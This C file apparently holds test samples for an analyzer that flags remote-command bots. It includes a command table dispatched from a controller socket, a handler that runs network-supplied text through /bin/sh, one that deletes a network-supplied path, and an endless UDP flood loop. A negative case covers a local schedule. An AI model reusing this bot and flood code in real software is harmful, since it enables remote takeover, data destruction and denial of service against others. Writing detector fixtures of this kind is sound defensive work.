/* Annotated samples for the remote-command pack in C: a bot whose commands are registered at
 * start-up into a heap table, then looked up by the opcode the controller sends. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>

typedef void (*op_fn)(const unsigned char *args, int len);

struct op_entry {
	unsigned char code;
	op_fn fn;
};

static struct op_entry **ops;
static int ops_count;

static void register_op(unsigned char code, op_fn fn)
{
	struct op_entry *e = calloc(1, sizeof *e);
	e->code = code;
	e->fn = fn;
	ops = realloc(ops, (ops_count + 1) * sizeof *ops);
	ops[ops_count++] = e;
}

static void op_flood(const unsigned char *args, int len)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
	struct sockaddr_in dst = {0};
	memcpy(&dst.sin_addr, args, 4);
	for (;;)
		sendto(fd, args, len, 0, (struct sockaddr *)&dst, sizeof dst);
}

static void op_run(const unsigned char *args, int len)
{
	execl("/bin/sh", "sh", "-c", (const char *)args, (char *)0); // want "remote-command/process-from-network"
}

static void op_wipe(const unsigned char *args, int len)
{
	unlink((const char *)args); // want "remote-command/file-operation-from-network"
}

void ops_init(void)
{
	register_op(OP_FLOOD, op_flood);
	register_op(OP_RUN, op_run);
	register_op(OP_WIPE, op_wipe);
}

static void ops_start(unsigned char code, const unsigned char *args, int len)
{
	for (int i = 0; i < ops_count; i++) {
		if (ops[i]->code == code) { // want "remote-command/dispatcher"
			ops[i]->fn(args, len);
			return;
		}
	}
}

void serve(int c2)
{
	unsigned char buf[1500];
	int n = recv(c2, buf, sizeof buf, 0);
	if (n > 1)
		ops_start(buf[0], buf + 1, n - 1);
}

/* The same table run from a local schedule is not remote control. */
void scheduled(void)
{
	static const unsigned char self[] = "/tmp/.bot.lock";
	for (int i = 0; i < ops_count; i++) {
		if (ops[i]->code == OP_WIPE) /* ok: a constant opcode, not network input */
			ops[i]->fn(self, sizeof self);
	}
}
